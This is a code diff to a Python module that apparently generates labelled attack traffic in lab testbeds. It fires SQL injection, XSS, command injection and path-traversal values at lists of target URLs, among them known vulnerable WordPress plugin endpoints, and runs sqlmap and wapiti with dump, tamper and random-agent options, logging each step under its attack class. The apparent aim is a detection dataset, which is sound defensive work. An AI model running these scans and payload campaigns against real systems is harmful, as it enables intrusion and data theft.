@@ -6,14 +6,16 @@ from urllib.parse import quote, quote_plus
 
 import payloads
 from actors.http import Session
+from attacks.pace import within
+from testbeds import TESTBEDS
 
 CLASSES = {"sqli": "sql_injection", "xss": "cross_site_scripting", "cmdi": "command_injection", "path-traversal": "path_traversal"}
 # Parameters that exist, and others that the intruder hopes for.
 TARGETS = {
-    "sqli": ["/tools/products.php?id={v}", "/tools/products.php?q={v}", "/index.php?id={v}", "/news.php?article={v}", "/tools/products.php?id=3&sort={v}", "/login.php?user={v}&pass=x", "/?cat={v}", "/api/items?filter={v}"],
-    "xss": ["/tools/guestbook.php?name={v}", "/tools/guestbook.php?message={v}&name=x", "/search?q={v}", "/?s={v}", "/index.php?msg={v}", "/error.php?text={v}", "/tools/products.php?q={v}"],
-    "cmdi": ["/tools/ping.php?host={v}", "/cgi-bin/test.cgi?cmd={v}", "/tools/ping.php?count=1&host={v}", "/run.php?exec={v}", "/api/ping?target={v}"],
-    "path-traversal": ["/tools/view.php?page={v}", "/download.php?file={v}", "/index.php?page={v}", "/{v}", "/tools/view.php?lang={v}", "/static/{v}", "/include.php?template={v}"],
+    "sqli": ["/tools/products.php?id={v}", "/tools/products.php?q={v}", "/index.php?id={v}", "/news.php?article={v}", "/tools/products.php?id=3&sort={v}", "/login.php?user={v}&pass=x", "/?cat={v}", "/api/items?filter={v}", "{wp}/?p={v}", "{wp}/wp-content/plugins/gallery/view.php?gid={v}", "{wp}/?s={v}", "{app}?id={v}", "{app}/search?q={v}", "/item.asp?cat={v}&page=2", "/{wiki}/doku.php?id={v}", "/shop/list?order_by={v}&dir=asc"],
+    "xss": ["/tools/guestbook.php?name={v}", "/tools/guestbook.php?message={v}&name=x", "/search?q={v}", "/?s={v}", "/index.php?msg={v}", "/error.php?text={v}", "/tools/products.php?q={v}", "{wp}/?s={v}", "{wp}/wp-login.php?redirect_to={v}", "{app}?title={v}", "{app}/search?q={v}", "/profile?bio={v}&lang=en", "/{v}", "/calendar.php?month={v}", "/{wiki}/doku.php?do=search&q={v}"],
+    "cmdi": ["/tools/ping.php?host={v}", "/cgi-bin/test.cgi?cmd={v}", "/tools/ping.php?count=1&host={v}", "/run.php?exec={v}", "/api/ping?target={v}", "{app}/convert?format={v}", "/upload.cgi?name=a.png{v}", "/admin/backup.php?dir={v}", "/tools/ping.php?host=localhost{v}", "/goform/diag?ip={v}", "/resize?size=100&file={v}"],
+    "path-traversal": ["/tools/view.php?page={v}", "/download.php?file={v}", "/index.php?page={v}", "/{v}", "/tools/view.php?lang={v}", "/static/{v}", "/include.php?template={v}", "{wp}/wp-admin/admin-ajax.php?action=revslider_show_image&img={v}", "{wp}/wp-content/plugins/duplicator/download.php?file={v}", "{app}/{v}", "/cgi-bin/{v}", "/{wiki}/lib/exe/fetch.php?media={v}", "/img?src={v}&w=200"],
 }
 
 
@@ -22,29 +24,33 @@ def _evidence(label):
     return {"access": label}
 
 
-def by_hand(lab):
+def by_hand(lab, client):
     """A script sends hostile values, class by class, with default and borrowed names."""
     bed, rng = lab.testbed, random.Random(lab.testbed.seed + 1000)
-    lab.attacker.enter()
+    client.enter()
     agents = ["python-requests/2.31.0", "curl/8.5.0", "Go-http-client/1.1", *bed.intruder.tool_agents]
     for kind, label in CLASSES.items():
-        # Sets at hand are split between the testbeds, so that none repeats another's values.
+        # Sets at hand are split between the testbeds, so that few repeat another's values.
         values = payloads.values(kind)
-        mine = values[bed.seed % 3::3] if len(values) > 200 else values
-        chosen = rng.sample(mine, min(len(mine), 320))
+        parts = max(1, min(7, len(values) // 130))
+        mine = values[list(TESTBEDS).index(bed.name) % parts::parts]
+        chosen = rng.sample(mine, min(len(mine), 280)) + [payloads.variant(kind, rng) for _ in range(140)]
+        rng.shuffle(chosen)
         for part in range(3):
             agent = rng.choice(agents)
-            with lab.journal.step(f"{kind}-values-{part}", "script", [bed.intruder.address], _evidence(label)):
-                for value in chosen[part::3]:
+            with lab.journal.step(f"{kind}-values-{part}", "script", [client.address], _evidence(label)):
+                for value in within(25, chosen[part::3]):
                     coded = rng.choice([quote_plus, quote])(value, safe=rng.choice(["", "/'()*;:,=!~", "/.:"]))
-                    target = rng.choice(TARGETS[kind]).replace("{v}", coded)
-                    public = rng.random() < .2 and not target.startswith("/tools")
+                    template = rng.choice(TARGETS[kind])
+                    app = rng.choice(list(lab.apps.values())).path if lab.apps else "/app"
+                    target = template.replace("{wp}", bed.wp_base).replace("{app}", app).replace("/{wiki}", bed.wiki_path).replace("{v}", coded)
+                    public = template.startswith("{wp}") or rng.random() < .2 and not target.startswith("/tools")
                     server, site = (lab.web.address, bed.www) if public else (lab.intra.address, f"intranet.{bed.domain}")
-                    Session(server, site, bed.intruder.address, agent).request(target)
+                    Session(server, site, client.address, agent).request(target)
                     time.sleep(rng.uniform(0, .03))
 
 
-def sqlmap(lab):
+def sqlmap(lab, client):
     """sqlmap on the product search. Its opening request for the plain address is ordinary."""
     bed, rng = lab.testbed, random.Random(lab.testbed.seed + 1100)
     site = f"http://intranet.{bed.domain}"
@@ -53,13 +59,15 @@ def sqlmap(lab):
     runs = [("/tools/products.php?id=1", ["--technique=BEU", "--level=1", "--dump", "--stop=5"]),
             ("/tools/products.php?q=item", ["--technique=BU", "--level=2", "--risk=2", "-A", rng.choice(bed.intruder.tool_agents)]),
             ("/tools/products.php?id=2", ["--technique=BET", "--tamper=space2comment", "--random-agent", "--tables", "--time-sec=1"]),
+            ("/tools/products.php?q=item&sort=1", ["--level=2", "--prefix=')", "--suffix=-- ", "--tamper=between,randomcase", "-p", "q", "--time-sec=1", "-A", rng.choice(bed.intruder.tool_agents)]),
+            ("/tools/products.php?id=1", ["--technique=U", "--union-cols=2-12", "--tamper=charencode", "--random-agent"]),
             ("/tools/guestbook.php?name=a", ["--technique=BEUST", "--level=1", "--time-sec=1", "--random-agent"])]
     for number, (target, options) in enumerate(runs):
-        with lab.journal.step(f"sqlmap-{number}", "sqlmap", [bed.intruder.address], {"access": "sql_injection", "error": "sql_injection"}, baseline=[target]):
-            lab.attacker.attempt(["sqlmap", "-u", site + target, *common, *options], timeout=50)
+        with lab.journal.step(f"sqlmap-{number}", "sqlmap", [client.address], {"access": "sql_injection", "error": "sql_injection"}, baseline=[target]):
+            client.attempt(["sqlmap", "-u", site + target, *common, *options], timeout=30)
 
 
-def wapiti(lab):
+def wapiti(lab, client):
     """wapiti, module by module; its crawl comes first and is not labelled, for it only follows links."""
     bed, rng = lab.testbed, random.Random(lab.testbed.seed + 1200)
     site = f"http://intranet.{bed.domain}/tools/"
@@ -69,13 +77,13 @@ def wapiti(lab):
     starts = [flag for path in lab.intranet["tools"] for flag in ("-s", f"http://intranet.{bed.domain}{path}?{_parameter(path)}=1")]
     # Requests without a query show nothing of what wapiti put into their body.
     plain = ["/", "/tools/", "/tools/upload.php", *lab.intranet["tools"]]
-    with lab.journal.step("wapiti-crawl", "wapiti", [bed.intruder.address], {}):
-        lab.attacker.attempt([*common, *starts, "-m", "", "--max-scan-time", "25"], timeout=40)
+    with lab.journal.step("wapiti-crawl", "wapiti", [client.address], {}):
+        client.attempt([*common, *starts, "-m", "", "--max-scan-time", "25"], timeout=40)
     for module, label in (("sql", "sql_injection"), ("xss", "cross_site_scripting"), ("exec", "command_injection"), ("file", "path_traversal"),
                           ("nikto", "vulnerability_scan"), ("backup", "vulnerability_scan"), ("htaccess,methods,crlf,shellshock,wapp", "vulnerability_scan")):
         agent = ["--user-agent", rng.choice(bed.intruder.tool_agents)] if rng.random() < .5 else []
-        with lab.journal.step(f"wapiti-{module.split(',')[0]}", "wapiti", [bed.intruder.address], _evidence(label), baseline=plain):
-            lab.attacker.attempt([*common, *agent, "--skip-crawl", "-m", module], timeout=45)
+        with lab.journal.step(f"wapiti-{module.split(',')[0]}", "wapiti", [client.address], _evidence(label), baseline=plain):
+            client.attempt([*common, *agent, "--skip-crawl", "-m", module], timeout=45)
 
 
 def _parameter(path):
